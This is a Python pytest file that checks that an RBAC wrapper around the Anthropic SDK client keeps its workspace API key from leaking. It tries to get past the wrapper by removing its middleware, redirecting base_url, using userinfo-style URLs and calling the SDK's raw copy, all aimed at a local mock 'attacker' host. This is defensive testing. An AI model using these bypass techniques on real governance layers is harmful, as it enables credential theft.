"""Code holding a governed client cannot drop the governance or take the key elsewhere (issue #14, item 15).

The attacks, each through the SDK's public API on a governed client, sync and async: derive a client
without the governor (``with_options(middleware=[])``), with another host (``base_url=``), with an HTTP
client of its own (which could read every header); post to an absolute URL on another host; assign
``base_url``; call the SDK's own ``copy`` past our override; read ``client.api_key``. A second FakeClaude
plays the attacker's host: it must never receive a request, and the workspace key must never be readable
from the client or sent by a client without its governor.
"""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from typing import Any

import anthropic
import httpx2
import pytest

from claude_rbac import RBAC, AccessDenied, Policy, Principal
from claude_rbac.testing import FakeClaude

KEY = "sk-ant-api03-client-escape-tests-00000000000000000000000-ESCP"
HAIKU, OPUS = "claude-haiku-4-5", "claude-opus-4-7"
MESSAGES = [{"role": "user", "content": "hi"}]
UMA = Principal("uma", "user")


@pytest.fixture
def evil() -> Iterator[FakeClaude]:
    """The attacker's host."""
    with FakeClaude() as fake:
        yield fake


@pytest.fixture(params=["enforce", "shadow"])
def rbac(request: pytest.FixtureRequest, fake_claude: FakeClaude) -> Iterator[RBAC]:
    """Both modes: shadow mode lets policy denials through, never a key to another host."""
    with RBAC(Policy.default(), api_key=KEY, base_url=fake_claude.url, mode=request.param) as built:
        yield built


def haiku(client: anthropic.Anthropic) -> anthropic.types.Message:
    return client.messages.create(model=HAIKU, max_tokens=10, messages=MESSAGES)


class TestTheKeyIsNotOnTheClient:
    def test_api_key_and_headers_hold_a_placeholder(self, rbac: RBAC) -> None:
        for client in (rbac.client(UMA), rbac.async_client(UMA)):
            assert client.api_key != KEY
            assert KEY not in repr(client.auth_headers)
            assert KEY not in repr(client.default_headers)
            assert KEY not in repr(vars(client))

    def test_the_sdks_own_copy_gives_a_client_without_the_key(
        self, rbac: RBAC, fake_claude: FakeClaude, evil: FakeClaude
    ) -> None:
        """``anthropic.Anthropic.copy`` called past the governed override drops the governor, and with it the key:
        such a client reaches Claude with a placeholder Anthropic refuses (FakeClaude takes any key)."""
        bare = anthropic.Anthropic.copy(rbac.client(UMA), middleware=[])
        bare.messages.create(model=OPUS, max_tokens=10, messages=MESSAGES)
        anthropic.Anthropic.copy(bare, base_url=evil.url).messages.create(model=OPUS, max_tokens=10, messages=MESSAGES)
        assert fake_claude.api_keys_seen == evil.api_keys_seen == [bare.api_key]
        assert bare.api_key != KEY


class TestDerivedClientsStayGoverned:
    def test_without_middleware(self, rbac: RBAC, fake_claude: FakeClaude) -> None:
        derived = rbac.client(UMA).with_options(middleware=[])
        if rbac.mode == "enforce":
            with pytest.raises(AccessDenied):
                derived.messages.create(model=OPUS, max_tokens=10, messages=MESSAGES)
        haiku(derived)
        assert fake_claude.api_keys_seen[-1] == KEY  # the governor, still there, sent it

    def test_a_middleware_of_the_callers_runs_before_the_key_is_added(self, rbac: RBAC) -> None:
        seen: list[str] = []

        def spy(request: anthropic.APIRequest, call_next: Any) -> Any:
            seen.append(repr(dict(request.headers)))
            return call_next(request)

        haiku(rbac.client(UMA).with_options(middleware=[spy]))
        assert seen
        assert all(KEY not in headers for headers in seen)

    @pytest.mark.parametrize(
        "options",
        [
            {"base_url": "http://127.0.0.1:9"},
            {"api_key": "sk-ant-api03-another-key-000000000000000000000000000000"},
            {"http_client": "replaced below"},
            {"_extra_kwargs": {"base_url": "http://127.0.0.1:9"}},
            {"default_headers": {"X-Api-Key": "x"}},
        ],
        ids=["base_url", "api_key", "http_client", "_extra_kwargs", "key header"],
    )
    def test_options_that_move_the_key_are_refused(self, rbac: RBAC, options: dict[str, Any]) -> None:
        for client in (rbac.client(UMA), rbac.async_client(UMA)):
            if "http_client" in options:
                is_async = isinstance(client, anthropic.AsyncAnthropic)
                options = {"http_client": httpx2.AsyncClient() if is_async else httpx2.Client()}
            with pytest.raises(TypeError):
                client.with_options(**options)
            with pytest.raises(TypeError):
                client.copy(**options)

    def test_assigning_base_url_does_not_move_the_calls(
        self, rbac: RBAC, fake_claude: FakeClaude, evil: FakeClaude
    ) -> None:
        client = rbac.client(UMA).with_options(max_retries=0)
        client.base_url = evil.url  # type: ignore[assignment]
        haiku(client)
        assert fake_claude.count() == 1
        assert evil.requests == []


class TestAbsoluteUrls:
    def test_a_post_to_another_host_is_refused(self, rbac: RBAC, evil: FakeClaude) -> None:
        body = {"model": HAIKU, "max_tokens": 10, "messages": MESSAGES}
        with pytest.raises(AccessDenied) as info:
            rbac.client(UMA).post(f"{evil.url}/v1/messages", body=body, cast_to=anthropic.types.Message)
        assert info.value.reason == "host_not_allowed"
        assert evil.requests == []

    def test_a_host_that_only_starts_like_the_workspace_is_refused(self, rbac: RBAC, fake_claude: FakeClaude) -> None:
        body = {"model": HAIKU, "max_tokens": 10, "messages": MESSAGES}
        for url in (f"{fake_claude.url}@127.0.0.1:9/v1/messages", f"{fake_claude.url}0/v1/messages"):
            with pytest.raises(AccessDenied):
                rbac.client(UMA).post(url, body=body, cast_to=anthropic.types.Message)
        assert fake_claude.requests == []

    def test_a_protocol_relative_path_stays_on_the_workspace_host(
        self, rbac: RBAC, fake_claude: FakeClaude, evil: FakeClaude
    ) -> None:
        """``//host/v1/messages`` is a path under the workspace's URL, judged (and sent) as that path."""
        body = {"model": HAIKU, "max_tokens": 10, "messages": MESSAGES}
        host = evil.url.removeprefix("http://")
        expected: type[Exception] = AccessDenied if rbac.mode == "enforce" else anthropic.NotFoundError
        with pytest.raises(expected):
            rbac.client(UMA).post(f"//{host}/v1/messages", body=body, cast_to=anthropic.types.Message)
        assert evil.requests == []
        assert [request.path for request in fake_claude.requests] == (
            [] if rbac.mode == "enforce" else [f"/{host}/v1/messages"]
        )

    def test_raw_content_is_refused(self, rbac: RBAC, fake_claude: FakeClaude) -> None:
        """A body the governor cannot read (``content=`` bytes) is not sent: it could name any model."""
        raw = b'{"model": "claude-opus-4-7", "max_tokens": 10, "messages": [{"role": "user", "content": "hi"}]}'
        with pytest.raises(ValueError, match="JSON body"):
            rbac.client(UMA).post("/v1/messages", content=raw, cast_to=anthropic.types.Message)
        assert fake_claude.requests == []


def test_async_clients_hold_the_same_line(fake_claude: FakeClaude, evil: FakeClaude) -> None:
    rbac = RBAC(Policy.default(), api_key=KEY, base_url=fake_claude.url)

    async def main() -> None:
        client = rbac.async_client(UMA)
        with pytest.raises(AccessDenied):
            await client.with_options(middleware=[]).messages.create(model=OPUS, max_tokens=10, messages=MESSAGES)
        body = {"model": HAIKU, "max_tokens": 10, "messages": MESSAGES}
        with pytest.raises(AccessDenied) as info:
            await client.post(f"{evil.url}/v1/messages", body=body, cast_to=anthropic.types.Message)
        assert info.value.reason == "host_not_allowed"
        derived = client.with_options(max_retries=0)
        derived.base_url = evil.url  # type: ignore[assignment]
        await derived.messages.create(model=HAIKU, max_tokens=10, messages=MESSAGES)
        bare = anthropic.AsyncAnthropic.copy(client, middleware=[])
        await bare.messages.create(model=OPUS, max_tokens=10, messages=MESSAGES)
        await rbac.aclose()

    asyncio.run(main())
    assert evil.requests == []
    assert fake_claude.api_keys_seen[0] == KEY
    assert KEY not in fake_claude.api_keys_seen[1:]
